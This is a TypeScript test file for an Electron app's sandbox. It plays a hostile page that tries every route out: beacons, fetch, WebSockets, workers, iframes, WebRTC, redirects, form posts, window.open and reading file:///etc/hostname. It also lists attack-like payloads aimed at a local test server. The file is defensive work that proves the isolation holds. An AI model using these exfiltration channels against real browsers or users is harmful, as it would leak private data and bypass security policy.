/** The walls behind the first one: an attacker's page without our policy tries every way out. */
import { electronBinary } from "../../scripts/electron.mjs";
import { besiege, nobodyCame } from "./attacker.ts";
import { expect } from "./fixture.ts";
import { test } from "./outside.ts";

test.beforeEach(({ sluice, page }) => besiege(sluice, page));

test("no request leaves: not from the page, not from what it loads", async ({ page, outside }) => {
  await page.evaluate(async (url) => {
    const add = (tag: string, attributes: Record<string, string>): void => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      document.body.append(element);
    };
    navigator.sendBeacon(`${url}/beacon`, "x");
    void fetch(`${url}/fetch`, { mode: "no-cors" }).catch(() => {});
    void fetch(`${url}/keepalive`, { mode: "no-cors", keepalive: true }).catch(() => {});
    new WebSocket(`${url.replace("http", "ws")}/socket`);
    new EventSource(`${url}/events`);
    for (const tag of ["img", "script", "iframe", "embed", "video", "audio", "track", "frame"])
      add(tag, { src: `${url}/${tag}` });
    for (const rel of ["stylesheet", "prefetch", "preload", "modulepreload", "manifest", "icon"])
      add("link", { rel, href: `${url}/${rel}`, as: "script" });
    add("object", { data: `${url}/object` });
    add("a", { href: "#", ping: `${url}/ping`, id: "ping" });
    document.getElementById("ping")?.click();
    add("style", {});
    const sheet = document.querySelector("style");
    if (sheet)
      sheet.textContent = `@import "${url}/import.css"; body { background: url(${url}/background) }`;
    const rules = document.createElement("script");
    rules.type = "speculationrules";
    rules.textContent = JSON.stringify({
      prefetch: [{ source: "list", urls: [`${url}/speculated`] }],
    });
    document.body.append(rules);
  }, outside.url);
  await nobodyCame(page, outside);
});

test("without the rule of the session the same attack gets through, so it is that rule that holds", async ({
  sluice,
  page,
  outside,
}) => {
  await sluice.evaluate(({ session }) =>
    session.fromPartition("window").webRequest.onBeforeRequest(null),
  );
  await page.evaluate((url) => {
    void fetch(`${url}/fetch`, { mode: "no-cors" }).catch(() => {});
    new WebSocket(`${url.replace("http", "ws")}/socket`);
  }, outside.url);
  await expect.poll(() => outside.hits.toSorted()).toEqual(["GET /fetch", "upgrade /socket"]);
});

test("no worker and no frame of any kind has a way out of its own", async ({ page, outside }) => {
  await page.evaluate(async (url) => {
    const body = `fetch("${url}/inner", { mode: "no-cors" }); new WebSocket("${url.replace("http", "ws")}/inner")`;
    const blob = (type: string, text: string): string =>
      URL.createObjectURL(new Blob([text], { type }));
    for (const source of [
      blob("text/javascript", body),
      `data:text/javascript,${encodeURIComponent(body)}`,
      `app://sluice/worker.js?body=${encodeURIComponent(body)}`,
    ])
      try {
        new Worker(source);
        new SharedWorker(source);
      } catch {
        // Refused at once is as good.
      }
    navigator.serviceWorker
      ?.register(`app://sluice/sw.js?body=${encodeURIComponent(body)}`)
      .catch(() => {});
    const html = `<script>${body}</script><img src="${url}/framed">`;
    for (const source of [
      blob("text/html", html),
      `data:text/html,${encodeURIComponent(html)}`,
      `app://sluice/?body=${encodeURIComponent(html)}`,
      "about:blank",
    ]) {
      const frame = document.createElement("iframe");
      frame.src = source;
      document.body.append(frame);
    }
    const written = document.createElement("iframe");
    written.srcdoc = html;
    document.body.append(written);
  }, outside.url);
  await nobodyCame(page, outside);
});

test("no peer is to learn this machine's addresses", async ({ sluice }) => {
  const policies = await sluice.evaluate(({ BrowserWindow }) =>
    BrowserWindow.getAllWindows().map(({ webContents }) => webContents.getWebRTCIPHandlingPolicy()),
  );
  expect(policies).toEqual(["disable_non_proxied_udp"]);
});

// The policy is Electron's to hold: Chromium alone cannot be told for one page.
if (electronBinary() !== undefined)
  test("no packet leaves for a peer", async ({ page, outside }) => {
    await page.evaluate(async (urls) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls }] });
      peer.createDataChannel("out");
      await peer.setLocalDescription();
    }, outside.stun);
    await nobodyCame(page, outside);
  });

test("the window stays where it is, whatever leads elsewhere", async ({ page, outside }) => {
  const before = page.url();
  for (const html of [
    `<meta http-equiv="refresh" content="0;url=${outside.url}/refresh">`,
    `<form action="${outside.url}/form" method="post"><input name="a"></form><script>document.forms[0].submit()</script>`,
    `<a id="go" href="${outside.url}/link">x</a><script>go.click()</script>`,
    `<script>location.assign("${outside.url}/assign")</script>`,
    `<script>top.location = "file:///etc/hostname"</script>`,
    `<script>location = "mailto:a@example.com"</script>`,
    `<script>location = URL.createObjectURL(new Blob(["x"], { type: "text/html" }))</script>`,
  ]) {
    await page.evaluate((text) => {
      // Parsed anew, so that scripts in it run.
      document.open();
      document.write(`<!doctype html><title>Attack</title><body>${text}`);
      document.close();
    }, html);
    await page.waitForTimeout(150);
    expect([html, page.url()]).toEqual([html, before]);
  }
  await nobodyCame(page, outside);
});

test("no window opens, and the browser is given no address of the page's choice", async ({
  sluice,
  page,
  outside,
}) => {
  const opened = await page.evaluate((url) => {
    const form = document.createElement("form");
    form.action = `${url}/form`;
    form.method = "post";
    form.target = "_blank";
    document.body.append(form);
    form.submit();
    return [
      window.open(`${url}/open`),
      window.open("about:blank"),
      window.open("app://sluice/"),
      window.open("file:///etc/hostname"),
      window.open("https://dash.cloudflare.com/?leak=secret"),
    ];
  }, outside.url);
  expect(opened).toEqual([null, null, null, null, null]);
  const count = await sluice.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length);
  expect(count).toBe(1);
  if (sluice.kind === "stand-in")
    expect(await sluice.evaluate(({ host }) => host.opened)).toEqual([]);
  await nobodyCame(page, outside);
});
